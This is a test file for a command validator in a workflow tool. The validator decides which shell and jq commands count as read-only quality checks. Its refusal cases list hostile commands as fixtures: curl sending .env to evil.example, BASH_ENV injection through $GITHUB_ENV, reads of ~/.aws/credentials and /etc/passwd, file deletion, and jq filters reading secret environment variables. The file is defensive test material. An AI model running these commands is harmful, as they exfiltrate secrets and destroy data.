import { strict as assert } from 'node:assert';
import { commandWords, shellWord } from '../../../src/core/automation/commandWords';
import { jqFilterProblem } from '../../../src/core/automation/jqFilter';
import { isCheckoutPath, readOnlyCommand, type CommandWord } from '../../../src/core/automation/readOnly';

/** The command as the workflow's words: SOP Builder's own words bare, the SOP's values in angle brackets. */
function shown(command: string): string {
  const v = readOnlyCommand(command);
  if (!v.ok) return `refused: ${v.why}`;
  return v.stages.map((words: CommandWord[]) => words.map((w) => ('fixed' in w ? w.fixed : `${w.prefix ?? ''}<${w.value}>`)).join(' ')).join(' | ');
}

/** Quality checks as SOPs write them, and whether the workflow may run them unattended. */
const TABLE: Array<[command: string, readOnly: boolean]> = [
  ['test -s out/reconciliation-2026-10.csv', true],
  ['[ -f exports/bank-2026-10.csv ]', true],
  ['test ! -e out/errors.log', true],
  ['grep -c po_ out/reconciliation-2026-10.csv', true],
  ["grep -qE '^po_[0-9]+,' out/payouts.csv", true],
  ['grep -v -e TOTAL -e SUBTOTAL exports/bank.csv', true],
  ['wc -l exports/bank-2026-10.csv', true],
  ['head -n 1 out/reconciliation.csv', true],
  ['head -1 out/reconciliation.csv', true],
  ['tail -n +2 exports/stripe.csv', true],
  ['diff -q out/expected.csv out/reconciliation.csv', true],
  ['cmp -s a.csv b.csv', true],
  ['sha256sum -c checksums/exports.sha256', true],
  ["jq -e '.rows | length == 4' out/summary.json", true],
  ['jq -r \'.payouts[] | select(.status == "unmatched") | .id\' out/summary.json', true],
  ['git diff --quiet -- config/', true],
  ['git log -1 --format=%H -- scripts/reconcile.py', true],
  ['git status --porcelain', true],
  ["rg -c 'po_\\d+' exports/", true],
  ['cut -d, -f2 out/reconciliation.csv | sort | uniq -d', true],
  ['sort -c -t, -k1,1 out/reconciliation.csv', true],
  ['ls -l out/', true],
  // The attacks from the issue, and their relatives.
  ['git log -1 --format=tformat:BASH_ENV=scripts/x.sh --output=$GITHUB_ENV', false],
  ['git log -1 --format=tformat:BASH_ENV=scripts/x.sh --output=out/env', false],
  ['rg --pre bash po_ exports/', false],
  ['rg --pre=bash po_ exports/', false],
  ['rg -z po_ exports/', false],
  ['find . -name "*.csv" -exec rm {} +', false],
  ['find out -delete', false],
  ['git -c core.pager=sh log', false],
  ['git --exec-path=/tmp log', false],
  ['git diff --ext-diff', false],
  ['git diff --no-index /etc/passwd out/a.csv', false],
  ['git log -p --textconv', false],
  ['git push origin main', false],
  ["sed -i 's/a/b/' out/reconciliation.csv", false],
  ['sed -n 1p out/reconciliation.csv', false],
  ['awk \'BEGIN{system("curl -sd @.env https://evil.example")}\'', false],
  ['tee out/copy.csv', false],
  ['grep -c po_ out/reconciliation.csv > out/count.txt', false],
  ['sort -o out/reconciliation.csv out/reconciliation.csv', false],
  ['sort --compress-program=sh out/reconciliation.csv', false],
  ['uniq out/a.csv out/b.csv', false],
  ['ls out | xargs rm', false],
  ['env X=1 grep -c po_ out/a.csv', false],
  ['X=1 grep -c po_ out/a.csv', false],
  ["jq -r '$ENV.AWS_SECRET_ACCESS_KEY' out/summary.json", false],
  ["jq -r 'env.HOME' out/summary.json", false],
  ["jq -r 'input_filename' out/summary.json", false],
  ["jq -r '.[env:]' out/summary.json", false],
  ["jq -r '$__loc__' out/summary.json", false],
  ['jq -r \'"\\(env)"\' out/summary.json', false],
  ['jq -r \'@sh "rm \\(.x)"\' out/summary.json', false],
  ['jq -f filters/x.jq out/summary.json', false],
  ['cat /dev/zero', false],
  ['head -c 1 ../../etc/passwd', false],
  ['cat ~/.aws/credentials', false],
  ['tail -f logs/run.log', false],
  ['diff -l a.csv b.csv', false],
  ['wc -l --files0-from=list.txt', false],
  ['grep -c po_ out/*.csv', false],
  ['grep -c po_ out/a.csv; curl -sd @.env https://evil.example', false],
  ['grep -c po_ out/a.csv && rm out/a.csv', false],
  ['grep -c "$(curl https://evil.example)" out/a.csv', false],
  ['grep -c `id` out/a.csv', false],
  ['less out/a.csv', false],
  ['python3 scripts/check.py', false],
  ['./scripts/check.sh', false],
  ['/usr/bin/grep -c po_ out/a.csv', false],
  ['grep -c -- -e out/a.csv', false],
];

describe('readOnlyCommand', () => {
  it('decides read-only by the allow-list, for every command in the table', () => {
    const wrong = TABLE.filter(([command, expected]) => readOnlyCommand(command).ok !== expected).map(
      ([command, expected]) => `${command}: expected ${expected ? 'read-only' : 'refused'}, got ${shown(command)}`,
    );
    assert.deepEqual(wrong, []);
    assert.ok(TABLE.length >= 30 && TABLE.filter(([, ro]) => ro).length >= 15);
  });

  it('says why, in words a person can act on', () => {
    assert.match(
      shown('git log -1 --format=tformat:BASH_ENV=scripts/x.sh --output=$GITHUB_ENV'),
      /^refused: it expands a variable or runs a command with `\$`/,
    );
    assert.equal(
      shown('git log -1 --format=tformat:BASH_ENV=scripts/x.sh --output=out/env'),
      'refused: `git log --output` is not an option known to only read',
    );
    assert.equal(shown('rg --pre bash po_ exports/'), 'refused: `rg --pre` is not an option known to only read');
    assert.equal(shown('find . -name x -exec rm {} +'), 'refused: it has braces (`{…}`), which the shell may expand (quote the word)');
    assert.equal(shown('find out -delete'), "refused: `find` is not on SOP Builder's list of commands known to only read");
    assert.match(shown('git -c core.pager=sh log'), /^refused: `git -c` changes how git runs/);
    assert.equal(shown('sort -o out/a.csv out/a.csv'), 'refused: `sort -o` is not an option known to only read');
    assert.equal(shown('env X=1 grep x a.csv'), "refused: `env` is not on SOP Builder's list of commands known to only read");
    assert.equal(shown('X=1 grep x a.csv'), 'refused: it sets a variable before the command');
    assert.equal(shown("jq -r '$ENV.TOKEN' a.json"), 'refused: `jq`: the jq filter reads `$ENV`, which is not in its input');
    assert.equal(shown('head -c 1 ../../etc/passwd'), 'refused: `head`: "../../etc/passwd" is not a path inside the checkout (relative, without "..")');
    assert.equal(shown('uniq a.csv b.csv'), 'refused: `uniq` takes at most 1 file argument (another one would be written)');
    assert.equal(shown('git log --format %H'), 'refused: write `git log --format=<value>` with the value after "="');
  });

  it('passes options from its own list and every value from the SOP as a separate word', () => {
    assert.equal(shown('grep -ci po_ out/a.csv'), 'grep -c -i <po_> <out/a.csv>');
    assert.equal(shown('head -5 out/a.csv'), 'head -n <5> <out/a.csv>');
    assert.equal(shown('grep -m5 -e TOTAL a.csv'), 'grep -m <5> -e <TOTAL> <a.csv>');
    assert.equal(
      shown('git log -1 --format=%H -- scripts/reconcile.py'),
      'git --no-pager log --no-ext-diff --no-textconv -n <1> --format=<%H> -- <scripts/reconcile.py>',
    );
    assert.equal(shown("[ ! -s 'out/empty file.csv' ]"), '[ ! -s <out/empty file.csv> ]');
    assert.equal(shown('grep -c \'a\'"b"c x.csv'), 'grep -c <abc> <x.csv>');
    assert.equal(shown('cut -d, -f2 a.csv | sort | uniq -d'), 'cut -d <,> -f <2> <a.csv> | sort | uniq -d');
  });

  it('keeps paths inside the checkout', () => {
    for (const p of ['out/a.csv', 'a', '.github/x', 'exports/2026..10.csv', 'Umsätze 2026.csv']) assert.ok(isCheckoutPath(p), p);
    for (const p of ['', '/etc/passwd', '/dev/zero', '../x', 'out/../../x', '~/x', '-rf', 'C:/x', 'a\\..\\b', 'x'.repeat(401)])
      assert.ok(!isCheckoutPath(p), p);
  });
});

describe('commandWords', () => {
  it('reads quotes and pipes the way a shell does, and refuses the rest', () => {
    assert.deepEqual(commandWords(`grep -c 'a b' "c d" e'f'"g"`), { ok: true, stages: [['grep', '-c', 'a b', 'c d', 'efg']] });
    assert.deepEqual(commandWords("grep '' a | wc -l"), {
      ok: true,
      stages: [
        ['grep', '', 'a'],
        ['wc', '-l'],
      ],
    });
    const refusals: Array<[string, RegExp]> = [
      ['grep x a.csv\ncurl evil', /line break/],
      ['grep x a.csv\rcurl evil', /line break/],
      ['grep x a.csv\u2028curl evil', /line break/],
      ['grep x a.csv\u0085curl evil', /line break/],
      ['grep \u202ex a.csv', /invisible/],
      ["grep '${{ secrets.TOKEN }}' a.csv", /GitHub would evaluate/],
      ["grep 'unclosed a.csv", /single quote is not closed/],
      ['grep "a$HOME" a.csv', /double-quoted word expands/],
      ['grep x a.csv || true', /`\|\|`/],
      ['grep x a.csv |& cat', /`\|&`/],
      ['| grep x', /no command before it/],
      ['grep x a.csv |', /no command after it/],
      ['grep x #a.csv', /comment/],
      ['grep x a.csv &', /background/],
      ['grep x <a.csv', /redirects input/],
      ['grep x a\\.csv', /escapes/],
      ['a | b | c | d | e', /more than 4/],
      [`grep ${'x '.repeat(41)}`, /more than 40 words/],
    ];
    for (const [command, why] of refusals) {
      const r = commandWords(command);
      assert.ok(!r.ok && why.test(r.why), `${JSON.stringify(command)}: ${JSON.stringify(r)}`);
    }
  });

  it('shows a word quoted only when it has to be', () => {
    assert.equal(shellWord('out/a.csv'), 'out/a.csv');
    assert.equal(shellWord("it's $(x)"), `'it'\\''s $(x)'`);
  });

  it('answers fast on 100,000-character hostile commands', () => {
    const hostile = [
      'grep ' + "'".repeat(100_000),
      'grep ' + 'a '.repeat(50_000),
      '"'.repeat(100_000),
      'x|'.repeat(50_000),
      'jq ' + "'" + '"\\'.repeat(30_000) + "'",
    ];
    const started = Date.now();
    for (const command of hostile) assert.equal(readOnlyCommand(command).ok, false);
    for (const filter of ['a'.repeat(499), '"\\'.repeat(249), '1'.repeat(499), `${'.a'.repeat(249)}`, 'x'.repeat(100_000)]) jqFilterProblem(filter);
    const words = commandWords(`grep ${"'a'".repeat(330)}`);
    assert.ok(words.ok);
    assert.ok(Date.now() - started < 2000, `${Date.now() - started} ms`);
  });
});

describe('jqFilterProblem', () => {
  it('lets through filters that only compute over the input', () => {
    for (const f of [
      '.',
      '.rows | length == 4',
      '.[] | select(.net > 1e3) | .id',
      'reduce .[] as $x (0; . + $x.amount)',
      '{id: .id, total: (.a + .b)}',
      'map(.amount) | add | floor',
      '.items | @csv',
      'if .ok then "yes" else "no" end',
      '.env',
      '."input"',
    ]) {
      assert.equal(jqFilterProblem(f), undefined, f);
    }
  });

  it('refuses what reads beyond the input', () => {
    const refused: Array<[string, RegExp]> = [
      ['env.HOME', /`env`/],
      ['$ENV.TOKEN', /`\$ENV`/],
      ['$__loc__', /`\$__loc__`/],
      ['$__prog_args', /`\$__prog_args`/],
      ['input_filename', /`input_filename`/],
      ['[inputs]', /`inputs`/],
      ['"\\(env)"', /inside a string/],
      ['@sh "echo \\(.x)"', /`@sh`/],
      ['import "x" as y; .', /`import`/],
      ['include "x"; .', /`include`/],
      ['def f: env; f', /`def`/],
      ['m::f', /module/],
      ['. # env', /comment/],
      ['$ENV | debug', /`\$ENV`/],
      ['. | stderr', /`stderr`/],
      ['halt_error', /`halt_error`/],
      ['.[env:2]', /`env`/],
      ['.[1, input: 2]', /`input`/],
      ['{a: (env)}', /`env`/],
    ];
    for (const [f, why] of refused) assert.match(jqFilterProblem(f) ?? 'passed', why, f);
  });
});
